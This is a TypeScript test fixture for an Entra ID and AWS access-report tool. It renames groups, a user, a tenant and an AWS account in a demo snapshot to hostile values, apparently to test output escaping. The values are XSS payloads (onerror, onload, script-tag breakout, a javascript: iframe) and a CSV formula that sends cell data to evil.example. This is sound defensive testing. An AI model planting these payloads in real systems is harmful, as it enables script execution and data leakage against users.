// Hostile tenant data: names an attacker who can create a group or invite a guest can choose.
import type { Snapshot } from '../../src/model/snapshot-schema.js';

export const HOSTILE = {
  group: '<img src=x onerror="window.__pwned=1;alert(1)">',
  script: '</script><script>window.__pwned=2;alert(2)</script>',
  upn: '"><svg onload=alert(3)>@northwind.example',
  tenant: '<script>alert(4)</script> & Co',
  account: "payments-prod'><iframe src=javascript:alert(5)>",
  csv: '=HYPERLINK("http://evil.example/?"&A1,"click")',
} as const;

/** The demo with hostile names in every place a tenant controls that the reports show. */
export function makeHostile(s: Snapshot): void {
  s.entra.tenant.data!.displayName = HOSTILE.tenant;
  const rename = (from: string, to: string) => {
    for (const g of s.entra.groups.data ?? []) if (g.displayName === from) g.displayName = to;
    for (const g of s.aws.identityStore.data?.groups ?? []) if (g.displayName === from) g.displayName = to;
  };
  rename('AWS - Prod Admins', HOSTILE.group);
  rename('AWS - Dev PowerUsers', HOSTILE.script);
  rename('AWS - ReadOnly All', HOSTILE.csv);
  const user = (s.entra.users.data ?? []).find((u) => u.userPrincipalName.startsWith('alice.kim'))!;
  user.userPrincipalName = HOSTILE.upn;
  user.displayName = HOSTILE.upn;
  const account = s.aws.organization.data!.accounts.find((a) => a.id === '222222222222')!;
  account.name = HOSTILE.account;
}
